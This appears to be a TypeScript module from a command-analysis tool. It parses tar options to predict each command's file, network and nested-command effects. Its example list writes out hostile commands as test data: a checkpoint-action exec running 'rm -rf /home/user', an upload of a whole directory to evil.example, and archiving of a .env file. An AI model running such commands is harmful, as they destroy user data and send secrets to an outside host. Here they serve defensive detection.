/** tar and bsdtar: what an archive is made of, where it lands, and the commands that options run. */

import type { Effect } from '../../types/effect.ts';
import type { Nested } from '../../types/invocation.ts';
import type { Word } from '../../types/text.ts';
import { isStream, programWord, readsOf, textOf, writesOf } from '../coreutils/paths.ts';
import { asksForHelp, readOptions } from '../coreutils/spec.ts';
import { file, joinWord, wordAt } from '../effects.ts';
import { fileSent, findRemote } from '../network/traffic.ts';
import { knownStart, type ParsedArgs, partOf } from '../options.ts';
import { type Call, definePage, NOTHING, type Outcome, type Page } from '../page.ts';

const TAR = [
  'A catenate concatenate c create delete d diff compare r append test-label t list u update x extract get',
  'g= listed-incremental= G incremental hole-detection= ignore-failed-read level= n seek occurrence? sparse-version= S sparse',
  'add-file= C= directory= cd= exclude= exclude-backups exclude-caches exclude-ignore= exclude-ignore-recursive= exclude-tag=',
  'exclude-tag-all= exclude-tag-under= exclude-vcs exclude-vcs-ignores no-null no-recursion no-unquote null recursion',
  'T= files-from= unquote verbatim-files-from no-verbatim-files-from X= exclude-from= anchored ignore-case wildcards',
  'keep-directory-symlink keep-newer-files k keep-old-files no-overwrite-dir one-top-level? overwrite overwrite-dir',
  'recursive-unlink remove-files skip-old-files U unlink-first W verify ignore-command-error O to-stdout to-command=',
  'atime-preserve? clamp-mtime group= group-map= mode= mtime= m touch owner= owner-map= p same-permissions same-owner sort=',
  's preserve-order acls selinux xattrs xattrs-exclude= xattrs-include= force-local f= file= F= info-script= new-volume-script=',
  'L= tape-length= M multi-volume rmt-command= rsh-command= volno-file= b= blocking-factor= B i record-size= H= format=',
  'old-archive pax-option= posix V= label= a auto-compress I= use-compress-program= j bzip2 J xz lzip lzma lzop z gzip zstd Z',
  'backup? hard-dereference h dereference K= starting-file= newer-mtime= N= newer= after-date= one-file-system P absolute-names',
  'suffix= strip-components= transform= xform= checkpoint? checkpoint-action= full-time index-file= l no-quote-chars= quote-chars=',
  'quoting-style= R show-defaults show-transformed-names totals? utc v verbose warning= w help version usage',
].join(' ');

/** Letters of an old-style bundle that take the next word, in the order they stand. */
const BUNDLED_VALUES = 'fCbXTgIFKLNHV';

/** `xzf a.tar -C out` as `-x -z -f a.tar -C out`. */
function unbundle(args: readonly Word[]): readonly Word[] {
  const [first, ...rest] = args;
  if (!first || !/^[A-Za-z]{1,32}$/.test(first.text ?? '')) return args;
  const words: Word[] = [];
  let used = 0;
  for (const letter of first.text ?? '') {
    words.push(wordAt(`-${letter}`, first));
    const value = rest[used];
    if (!BUNDLED_VALUES.includes(letter) || !value) continue;
    words.push(value);
    used++;
  }
  return [...words, ...rest.slice(used)];
}

/** Options that a `-T` file holds: its lines that start with a dash count as words of the command line. */
function listedOptions(call: Call, parsed: ParsedArgs): readonly Word[] {
  if (parsed.has('verbatim-files-from', 'null')) return [];
  return parsed.values('T', 'files-from').flatMap((path) =>
    (textOf(call, path) ?? '')
      .split('\n')
      .filter((line) => line.startsWith('-'))
      .map((line) => wordAt(line.trim(), path)),
  );
}

function environmentOptions(call: Call): readonly Word[] {
  const set = call.invocation.assignments.findLast(({ name }) => name === 'TAR_OPTIONS')?.value;
  return (
    set?.text
      ?.split(/\s+/)
      .filter((part) => part !== '')
      .map((part) => wordAt(part, set)) ?? []
  );
}

function readTar(call: Call): Outcome {
  const args = [...environmentOptions(call), ...unbundle(call.args)];
  const given = readOptions(args, TAR);
  const parsed = readOptions([...args, ...listedOptions(call, given)], TAR);
  if (asksForHelp(parsed)) return NOTHING;
  const lists = parsed.values('T', 'files-from', 'X', 'exclude-from');
  const archive = parsed.value('f', 'file');
  const directory = parsed.value('C', 'directory', 'cd');
  const place = (path: Word) => (directory ? joinWord(directory, path) : path);
  const members = parsed.operands.filter((word) => !word.text?.startsWith('@'));
  const isWriting = parsed.has('c', 'create');
  const isAdding = parsed.has('r', 'append', 'u', 'update', 'A', 'catenate', 'concatenate', 'delete');
  const isExtracting = parsed.has('x', 'extract', 'get');
  const effects: Effect[] = readsOf([...lists, ...parsed.values('exclude-ignore', 'group-map', 'owner-map')]);
  effects.push(...archiveEffects(parsed, archive, isWriting, isAdding, members));
  if (isWriting || isAdding) {
    const sources = parsed.has('delete') ? [] : members.map(place);
    effects.push(...readsOf(sources, { recursive: true }), ...readsOf(parsed.values('add-file')));
    if (parsed.has('remove-files'))
      effects.push(...sources.map((path) => file('delete', path, { recursive: true })));
  }
  if (isExtracting && !parsed.has('O', 'to-stdout', 'to-command'))
    effects.push(...extracted(call, parsed, members));
  effects.push(
    ...parsed.values('index-file', 'g', 'listed-incremental', 'volno-file').flatMap((path) => writesOf(path)),
  );
  return { effects, runs: commandsOf(call, parsed) };
}

function archiveEffects(
  parsed: ParsedArgs,
  archive: Word | undefined,
  isWriting: boolean,
  isAdding: boolean,
  members: readonly Word[],
): readonly Effect[] {
  if (!archive || isStream(archive)) return [];
  const remote = parsed.has('force-local') ? undefined : findRemote(archive);
  if (remote)
    return [
      {
        kind: 'net',
        op: isWriting || isAdding ? 'upload' : 'connect',
        host: remote.host,
        scheme: 'ssh',
        span: archive.span,
        ...(isWriting ? { sends: members.map(fileSent) } : {}),
      },
    ];
  if (isWriting) return writesOf(archive);
  return isAdding ? [file('write', archive)] : [file('read', archive)];
}

function extracted(call: Call, parsed: ParsedArgs, members: readonly Word[]): readonly Effect[] {
  const base = parsed.value('C', 'directory', 'cd');
  const top = parsed.value('one-top-level');
  const here = base ?? wordAt('.', programWord(call));
  const directory = top ? (base ? joinWord(base, top) : top) : here;
  const keeps = parsed.has('k', 'keep-old-files', 'skip-old-files', 'keep-newer-files');
  const more = { recursive: true, clobbers: !keeps };
  const isNamed = members.length > 0 && !parsed.has('transform', 'xform', 'strip-components', 's') && !top;
  const paths = isNamed ? members.map((member) => (base ? joinWord(base, member) : member)) : [directory];
  // With -P the archive says where its files go.
  if (parsed.has('P', 'absolute-names')) paths.push(wordAt('/', here));
  return paths.map((path) => file('write', path, more));
}

function commandsOf(call: Call, parsed: ParsedArgs): readonly Nested[] {
  const code = (via: string, text: Word): Nested => ({
    kind: 'code',
    via: `tar ${via}`,
    lang: 'sh',
    code: text,
  });
  const runs: Nested[] = [];
  for (const action of parsed.values('checkpoint-action'))
    if (knownStart(action).startsWith('exec=')) runs.push(code('--checkpoint-action', partOf(action, 5)));
  for (const { name, value } of parsed.options)
    if (value && RUNS.has(name)) runs.push(code(name.length > 1 ? `--${name}` : `-${name}`, value));
  const shell = call.invocation.assignments.findLast(({ name }) => name === 'TAR_RSH')?.value;
  if (shell) runs.push(code('TAR_RSH', shell));
  return runs;
}

const RUNS = new Set([
  'to-command',
  'I',
  'use-compress-program',
  'F',
  'info-script',
  'new-volume-script',
  'rsh-command',
  'rmt-command',
]);

export const pages: readonly Page[] = [
  definePage({
    names: ['tar', 'bsdtar', 'gtar', 'star'],
    about: 'packs and unpacks archives',
    read: readTar,
    examples: [
      {
        command: 'tar xzf a.tgz -C out',
        effects: [{ kind: 'file', op: 'write', path: 'out', recursive: true, clobbers: true }],
      },
      {
        command: 'tar czf out.tgz .env',
        effects: [
          { kind: 'file', op: 'read', path: '.env' },
          { kind: 'file', op: 'write', path: 'out.tgz' },
        ],
      },
      {
        command: "tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='rm -rf /home/user'",
        effects: [{ kind: 'file', op: 'delete', path: '/home/user' }],
      },
      {
        command: 'tar cf me@evil.example:/x .',
        effects: [{ kind: 'net', op: 'upload', host: 'evil.example' }],
      },
      { command: 'tar tzf a.tgz', effects: [] },
    ],
  }),
];
